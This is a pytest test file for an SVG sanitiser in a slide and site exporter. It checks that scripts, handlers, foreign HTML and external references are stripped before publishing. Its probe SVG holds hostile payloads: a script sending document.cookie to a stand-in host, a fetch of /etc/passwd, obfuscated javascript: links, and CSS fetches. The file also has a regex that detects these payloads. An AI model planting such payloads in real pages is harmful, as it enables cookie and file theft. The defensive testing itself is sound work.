"""SVGs are published only as their drawing: no script, handlers, foreign HTML or external
references, in every export that copies or inlines images (issue 17: a probe.svg with <script>
was copied verbatim into site exports)."""

from __future__ import annotations

import base64
import re
from pathlib import Path

import pytest

from slidewright import load_article, save_article
from slidewright.exporters import ExportOptions, export
from slidewright.fileformat.svgclean import SvgRefused, sanitize_svg

PROBE = """<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<?xml-stylesheet href="http://127.0.0.1:9/x.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="40" height="30" onload="fetch('file:///etc/passwd')">
<script>fetch('http://127.0.0.1:9/collect?k=' + document.cookie)</script>
<style>@import url(http://127.0.0.1:9/a.css);</style>
<defs><linearGradient id="sky"><stop offset="0" stop-color="#9cf"/></linearGradient></defs>
<a xlink:href="javascript:alert(1)"><rect width="40" height="30" fill="url(#sky)" onclick="x()"/></a>
<a href=" java&#9;script:alert(2)"><circle cx="5" cy="5" r="4"/></a>
<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="file:///etc/passwd"/></body></foreignObject>
<image width="1" height="1" href="http://127.0.0.1:9/pixel.png"/>
<use href="http://127.0.0.1:9/sprite.svg#a"/><use xlink:href="#sky"/>
<set attributeName="href" to="javascript:alert(3)"/>
<rect width="1" height="1" style="fill: url(http://127.0.0.1:9/)"/>
<style>rect { fill: u\\72l(http://127.0.0.1:9/escaped) }</style>
<style>g { background: image-set("http://127.0.0.1:9/set.png" 1x) }</style>
<style><g/>@import url(http://127.0.0.1:9/after-a-child.css);</style>
<style><desc>x</desc>@font-face { font-family: f; src: url(http://127.0.0.1:9/f.woff) }</style>
<text x="2" y="20">Harbour &amp; sea</text>
</svg>
"""
HOSTILE = re.compile(
    r"script|onload|onclick|foreignObject|iframe|127\.0\.0\.1|@import|<set|file:", re.I
)


def _assert_only_the_drawing(svg: str) -> None:
    assert not HOSTILE.findall(svg), HOSTILE.findall(svg)
    sky = re.search(r'<linearGradient id="(i\d+)"', svg)  # "sky" under a neutral name
    assert sky and f'fill="url(#{sky[1]})"' in svg and f'href="#{sky[1]}"' in svg
    assert "Harbour &amp; sea" in svg


@pytest.fixture
def svg_bundle(sample_bundle: Path) -> Path:
    (sample_bundle / "images" / "probe.svg").write_text(PROBE, encoding="utf-8")
    article = load_article(sample_bundle)
    article.slides[0].image = "images/probe.svg"
    save_article(article, sample_bundle)
    return sample_bundle


def test_sanitiser_keeps_the_drawing_and_nothing_that_runs() -> None:
    _assert_only_the_drawing(sanitize_svg(PROBE.encode(), "probe.svg").decode())


def test_a_stylesheet_is_kept_only_as_plain_text() -> None:
    """Only the text before a child element was checked: the CSS after ``<g/>`` (the child's
    tail, which a browser reads as part of the sheet) fetched a stylesheet and a font."""
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg"><style>rect { stroke: #000 }</style>'
        "<style><g/>@import url(//example.com/a.css);</style><rect width='1' height='1'/></svg>"
    )
    cleaned = sanitize_svg(svg.encode(), "s.svg").decode()
    assert "<style>rect { stroke: #000 }</style>" in cleaned
    assert "example.com" not in cleaned and "@import" not in cleaned


@pytest.mark.parametrize(
    "data",
    [
        b'<!DOCTYPE s [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        b"<html><script>x()</script></html>",
        b"<svg><script>x()</script></svg>",  # no SVG namespace: browsers would not draw it
        b"\x89PNG not svg at all",
    ],
)
def test_what_is_not_a_plain_svg_is_refused(data: bytes) -> None:
    with pytest.raises(SvgRefused, match="probe.svg"):
        sanitize_svg(data, "probe.svg")


@pytest.mark.parametrize(
    ("to", "published"),
    [
        ("html-folder", "assets/probe.svg"),
        ("hugo", "content/harbour-towns/images/probe.svg"),
        ("jekyll", "harbour-towns/images/probe.svg"),
    ],
)
def test_folder_and_site_exports_publish_the_svg_without_script(
    svg_bundle: Path, tmp_path: Path, to: str, published: str
) -> None:
    out = tmp_path / "out"
    export(svg_bundle, to, out)
    _assert_only_the_drawing((out / published).read_text(encoding="utf-8"))
    assert (svg_bundle / "images" / "probe.svg").read_text(encoding="utf-8") == PROBE  # untouched


def test_single_file_export_inlines_the_sanitised_svg(svg_bundle: Path, tmp_path: Path) -> None:
    out = tmp_path / "page.html"
    export(svg_bundle, "html", out)
    uri = re.search(r'src="data:image/svg\+xml;base64,([^"]+)"', out.read_text(encoding="utf-8"))
    assert uri is not None
    _assert_only_the_drawing(base64.b64decode(uri.group(1)).decode())


def test_an_unreadable_svg_is_left_out_with_a_warning(svg_bundle: Path, tmp_path: Path) -> None:
    (svg_bundle / "images" / "probe.svg").write_text("<svg><script>x()", encoding="utf-8")
    out = tmp_path / "folder"
    warnings: list[str] = []
    export(svg_bundle, "html-folder", out, ExportOptions(warn=warnings.append))
    assert not (out / "assets" / "probe.svg").exists()
    assert "probe.svg" not in (out / "index.html").read_text("utf-8")
    assert any(
        "index.md:" in w and "'images/probe.svg' is not published: not a readable SVG (" in w
        for w in warnings
    )


def test_a_drawing_keeps_no_editors_notes() -> None:
    """Found by an attacker: a stylesheet's comments and data- attributes (where design tools
    leave names, paths and notes) were published with the drawing. Its look stays the same."""
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" data-owner="SECRET-owner" width="4" height="3">'
        "<style>/* SECRET /home/jo/clients */ rect { fill: #9cf } /* open SECRET</style>"
        '<rect width="4" height="3" data-name="SECRET-layer" style="stroke: red /* SECRET */"/>'
        "<style>rect { fill: u/**/rl(//example.com/a.png) }</style></svg>"
    )
    cleaned = sanitize_svg(svg.encode(), "s.svg").decode()
    assert "SECRET" not in cleaned and "url(//example.com" not in cleaned
    assert "rect { fill: #9cf }" in cleaned and 'style="stroke: red' in cleaned
